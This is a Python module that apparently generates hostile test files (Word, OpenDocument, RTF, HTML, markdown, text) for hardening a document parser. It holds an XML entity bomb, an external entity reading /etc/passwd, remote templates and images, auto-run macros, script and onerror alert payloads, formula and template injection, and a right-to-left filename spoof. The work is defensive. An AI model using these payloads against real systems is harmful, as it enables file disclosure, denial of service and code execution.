"""Word, OpenDocument, RTF, web and text files made to do harm."""

from __future__ import annotations

import io
import zipfile

_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
)
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SENTENCE = "แผนดำเนินงานต่อเนื่องฉบับทดสอบ กำหนดผู้รับผิดชอบและสถานที่สำรองเมื่อเข้าอาคารไม่ได้"


def pack(files: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name)  # without a time, so that the same content is the same file
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def relationships(*entries: tuple[str, str, bool]) -> str:
    """Kind, target and whether it lies outside."""
    items = "".join(
        f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for number, (kind, target, outside) in enumerate(entries, start=1)
    )
    return f'<Relationships xmlns="{_RELATIONSHIPS}">{items}</Relationships>'


def word_file(
    body: str, *, head: str = "", encoding: str = "utf-8", kind: str = _MAIN, more: dict[str, bytes | str] | None = None
) -> bytes:
    """A Word file; ``head`` stands before the root of its text."""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{head}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return pack(
        {
            "[Content_Types].xml": _TYPES.format(kind=kind),
            "_rels/.rels": relationships(("officeDocument", "word/document.xml", False)),
            "word/document.xml": text.encode(encoding),
            **(more or {}),
        }
    )


def paragraph(text: str = SENTENCE) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def entity_bomb(encoding: str = "utf-8") -> bytes:
    """A billion laughs."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]>'
    return word_file(paragraph("&a9;"), head=head, encoding=encoding)


def outside_entity(url: str) -> bytes:
    """An entity that is a file of this machine, and one from the network."""
    head = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "{url}">]>'
    return word_file(paragraph("&f;&u;"), head=head)


def remote_parts(url: str) -> bytes:
    """A template, a picture, a chunk and a field, all from the network."""
    field = f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {url}/a.png"/></w:p>'
    return word_file(
        paragraph() + field,
        more={
            "word/_rels/document.xml.rels": relationships(
                ("settings", "settings.xml", False), ("image", f"{url}/b.png", True), ("aFChunk", f"{url}/c", True)
            ),
            "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate xmlns:r="{_OFFICE}" r:id="r1"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships(("attachedTemplate", f"{url}/t.dotm", True)),
        },
    )


def macros() -> bytes:
    script = b'Sub AutoOpen()\nShell "calc"\nEnd Sub'
    return word_file(paragraph(), kind=_MACROS, more={"word/vbaProject.bin": script})


def nested_tables(depth: int) -> bytes:
    inside = paragraph()
    for _ in range(depth):
        inside = f"<w:tbl><w:tr><w:tc>{inside}<w:p/></w:tc></w:tr></w:tbl>"
    return word_file(paragraph() + inside)


def endless_span() -> bytes:
    """A cell that says it spans a billion columns."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph()}</w:tc>'
    return word_file(paragraph() + f"<w:tbl><w:tr>{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>")


def odt(url: str, *, encrypted: bool = False) -> bytes:
    """OpenDocument text with a picture from the network and a macro bound to its opening."""
    names = " ".join(
        f'xmlns:{short}="{long}"'
        for short, long in {
            "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
            "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
            "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
            "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
            "xlink": "http://www.w3.org/1999/xlink",
        }.items()
    )
    event = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic" '
        'xlink:type="simple"/></office:event-listeners></office:scripts>'
    )
    picture = f'<draw:frame><draw:image xlink:href="{url}/o.png" xlink:type="simple"/></draw:frame>'
    content = (
        f'<?xml version="1.0"?><office:document-content {names} office:version="1.2">{event}<office:body><office:text>'
        f"<text:p>{SENTENCE}</text:p><text:p>{picture}</text:p></office:text></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.text"
    key = '<manifest:encryption-data manifest:checksum="x"/>' if encrypted else ""
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{key}'
        "</manifest:file-entry></manifest:manifest>"
    )
    return pack({"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content})


def rtf(url: str) -> bytes:
    """RTF with a template and a picture from the network."""
    text = "".join(f"\\u{ord(letter)}?" for letter in SENTENCE)
    field = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/r.png"}}{{\\fldrslt x}}}}'
    return f"{{\\rtf1\\ansi{{\\*\\template {url}/t.dot}}\\pard {text}\\par {field}\\par}}".encode("ascii")


def web_page(url: str) -> bytes:
    """Everything that a browser would fetch or run, and a table of a billion columns."""
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><link rel=stylesheet href="{url}/s.css">'
        f'<script src="{url}/s.js"></script></head><body onload="alert(1)"><p>{SENTENCE}</p><img src="{url}/i.png">'
        f'<iframe src="{url}/f.html"></iframe><table><tr><td colspan="1000000000" rowspan="1000000000">=1+1</td></tr>'
        "<tr><td>ข้อ 1</td></tr></table></body></html>"
    ).encode()


def deep_web_page(depth: int) -> bytes:
    return f"<html><body><p>{SENTENCE}</p>{'<div><ul><li>' * depth}</body></html>".encode()


def knotty_markdown(count: int) -> bytes:
    """What makes careless parsers try every way."""
    knots = ("[" * count, "*a " * count, "`" * count + "a" + "`" * (count - 1), "> " * 500 + "x")
    return "\n\n".join((f"# {SENTENCE}", *knots)).encode()


def endless_line(characters: int) -> bytes:
    return (SENTENCE.replace(" ", "") * (characters // 70)).encode()


def false_letters() -> bytes:
    """Marks that turn the direction of reading, markup and formulas, as text."""
    return (
        f"{SENTENCE}\n\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe\N{POP DIRECTIONAL FORMATTING}\n"
        '<img src=x onerror=alert(1)>\n=HYPERLINK("http://127.0.0.1:9/","x")\n@SUM(1+1)\n[bold]x[/bold] {{7*7}}\n'
        "\x1b[2J\n"
    ).encode()
